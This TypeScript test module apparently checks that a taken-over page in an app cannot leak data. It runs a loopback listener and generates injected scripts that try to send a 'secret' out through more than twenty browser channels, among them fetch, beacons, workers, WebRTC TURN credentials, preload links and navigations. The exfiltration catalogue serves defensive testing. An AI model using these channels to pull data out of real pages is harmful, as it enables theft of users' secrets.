import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { createServer as createTcp } from 'node:net';

/** Listens on loopback, over HTTP on TCP and over UDP, and notes what reaches it, by name of the way it came. */
export const startListener = async () => {
  const arrived = new Set<string>();
  const web = createServer((request, response) => {
    if (request.url !== '/favicon.ico') arrived.add(`http ${request.url?.split(/[/?]/u)[1] ?? ''}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Cross-Origin-Resource-Policy', 'cross-origin');
    response.end('x');
  });
  web.on('upgrade', (request, socket) => {
    arrived.add(`http ${request.url?.split(/[/?]/u)[1] ?? ''}`);
    socket.destroy();
  });
  const raw = createTcp((socket) => {
    arrived.add('turn over tcp');
    socket.destroy();
  });
  const bare = createTcp((socket) => {
    arrived.add('preconnect');
    socket.destroy();
  });
  const udp = createSocket('udp4');
  udp.on('message', () => arrived.add('webrtc'));
  await new Promise<void>((resolve) => void web.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => void raw.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => void bare.listen(0, '127.0.0.1', resolve));
  await new Promise<void>((resolve) => void udp.bind(0, '127.0.0.1', resolve));
  const portOf = (server: { address(): unknown }): number => {
    const address = server.address();
    return typeof address === 'object' && address !== null && 'port' in address ? Number(address.port) : 0;
  };
  return {
    http: portOf(web),
    turn: portOf(raw),
    bare: portOf(bare),
    udp: udp.address().port,
    arrived: (): readonly string[] => [...arrived].sort(),
    close: (): void => {
      web.closeAllConnections();
      web.close();
      raw.close();
      bare.close();
      udp.close();
    },
  };
};

export type Listener = Awaited<ReturnType<typeof startListener>>;

/** Every way by which a page of ours that was taken over would try to reach that listener, as an expression for the page. */
export const attacks = ({
  http,
  turn,
  bare,
  udp,
}: Pick<Listener, 'http' | 'turn' | 'bare' | 'udp'>): string => `(async () => {
  const to = (way) => 'http://127.0.0.1:${http}/' + way + '/secret';
  const attempt = async (work) => { try { await work(); } catch { /* stopped: that is what is measured */ } };
  const put = (tag, properties) => { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; };
  await attempt(() => fetch(to('fetch'), { mode: 'no-cors' }));
  await attempt(() => { const r = new XMLHttpRequest(); r.open('POST', to('xhr')); r.send('secret'); });
  await attempt(() => { new WebSocket('ws://127.0.0.1:${http}/websocket/secret'); });
  await attempt(() => { new EventSource(to('eventsource')); });
  await attempt(() => { navigator.sendBeacon(to('beacon'), 'secret'); });
  await attempt(() => { put('img', { src: to('image') }); });
  await attempt(() => { put('script', { src: to('script') }); });
  await attempt(() => { put('link', { rel: 'stylesheet', href: to('style') }); });
  await attempt(() => { document.body.style.backgroundImage = 'url(' + to('background') + ')'; });
  await attempt(() => { put('iframe', { src: to('frame') }); });
  await attempt(() => { put('object', { data: to('object') }); });
  await attempt(() => { put('video', { src: to('video') }).load(); });
  await attempt(() => { new FontFace('x', 'url(' + to('font') + ')').load(); });
  await attempt(() => { new Worker(to('worker')); });
  await attempt(() => { new Worker(URL.createObjectURL(new Blob(['fetch("' + to('blobworker') + '")']))); });
  await attempt(() => { navigator.serviceWorker.register(to('serviceworker')); });
  await attempt(() => { import(to('module')); });
  for (const rel of ['prefetch', 'preload', 'modulepreload', 'dns-prefetch', 'prerender', 'manifest', 'icon'])
    await attempt(() => { document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: to(rel) })); });
  await attempt(() => { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://127.0.0.1:${bare}' })); });
  await attempt(() => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')] }] }); document.head.append(s); });
  await attempt(() => { put('a', { href: 'app://nightjar/', ping: to('ping') }); });
  await attempt(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }, { urls: 'turn:127.0.0.1:${turn}?transport=tcp', username: 'secret', credential: 'x' }] });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  });
  await attempt(() => { const w = new WebTransport('https://127.0.0.1:${http}/webtransport'); return w.ready; });
  return true;
})()`;

/** Every way to leave the page, with the secret in the address; each needs a page of its own, since nothing survives one that works. */
export const departures = ({ http }: Pick<Listener, 'http'>): readonly string[] => {
  const to = (way: string): string => `'http://127.0.0.1:${http}/${way}/secret'`;
  const form = (way: string, target: string): string =>
    `const f = Object.assign(document.createElement('form'), { action: ${to(way)}, method: 'get', target: '${target}' }); document.body.append(f); f.submit()`;
  return [
    `location.href = ${to('navigation')}`,
    `location.replace(${to('replace')})`,
    `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + ${to('refresh')} }))`,
    `const a = Object.assign(document.createElement('a'), { href: ${to('link')} }); document.body.append(a); a.click()`,
    `const a = Object.assign(document.createElement('a'), { href: ${to('download')}, download: 'x' }); document.body.append(a); a.click()`,
    `window.open(${to('open')})`,
    form('form', '_self'),
    form('formblank', '_blank'),
  ].map((statement) => `(() => { ${statement}; return true; })()`);
};
